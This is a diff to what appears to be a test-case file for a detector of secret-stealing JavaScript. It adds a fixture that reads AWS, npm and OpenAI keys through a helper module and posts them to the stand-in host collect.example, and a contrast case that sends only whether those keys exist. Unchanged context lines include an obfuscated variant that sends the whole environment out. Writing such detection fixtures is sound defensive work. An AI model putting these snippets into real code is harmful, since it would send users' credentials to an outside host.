@@ -44,6 +44,14 @@ export default defineCases({
       code: "const body = { a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env.NPM_TOKEN, c: process.env.OPENAI_API_KEY };\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) })",
     },
     {
+      name: 'keys of several vendors, read by their names',
+      files: {
+        'index.js':
+          "const { read } = require('./read');\nconst body = [read('AWS_SECRET_ACCESS_KEY'), read('NPM_TOKEN'), read('OPENAI_API_KEY')];\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) })",
+        'read.js': 'exports.read = (name) => process.env[name]',
+      },
+    },
+    {
       name: 'with names that are computed',
       code: "const r = require;\nconst h = r(['ht', 'tps'].join(''));\nconst e = process[Buffer.from('ZW52', 'base64').toString()];\nh.get('https://collect.example/?' + new URLSearchParams(e))",
     },
@@ -52,6 +60,10 @@ export default defineCases({
     {
       name: 'one key, sent to its vendor',
       code: 'const key = process.env.WEATHER_API_KEY;\nexports.get = (city) => fetch(`https://api.weather.example/${city}`, { headers: { authorization: `Bearer ${key}` } })',
+    },
+    {
+      name: 'whether keys of several vendors are there',
+      code: "const has = (name) => Boolean(process.env[name]);\nconst body = [has('AWS_SECRET_ACCESS_KEY'), has('NPM_TOKEN'), has('OPENAI_API_KEY')];\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) })",
     },
     {
       name: 'settings from the environment decide where to call',
